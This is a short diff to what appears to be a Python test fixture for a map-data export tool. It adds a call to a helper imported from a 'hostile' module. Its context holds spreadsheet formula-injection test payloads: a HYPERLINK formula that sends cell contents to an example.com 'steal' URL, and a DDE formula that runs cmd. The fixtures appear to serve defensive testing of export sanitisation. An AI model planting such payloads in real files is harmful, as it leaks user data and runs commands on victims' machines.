@@ -29,6 +29,8 @@ from kr_map.export import (
 )
 from kr_map.loader import load
 
+from .hostile import mirror_translations
+
 HYPERLINK = '=HYPERLINK("http://example.com/steal?x="&A1,"Click for the source")'
 DDE = "=cmd|' /C calc'!A0"
 FORMULAS = {
@@ -60,6 +62,7 @@ def with_formulas(data_dir: Path) -> Path:
     seed = data_dir.parent / "seeds" / "battle_of_pailin.txt"
     seed.write_text(seed.read_text(encoding="utf-8") + "\n" + QUOTE + "\n", encoding="utf-8")
     _rewrite(data_dir / "events.csv", lambda row: row.update(seed=seed.name, quote=QUOTE))
+    mirror_translations(data_dir)
     return data_dir
 
 
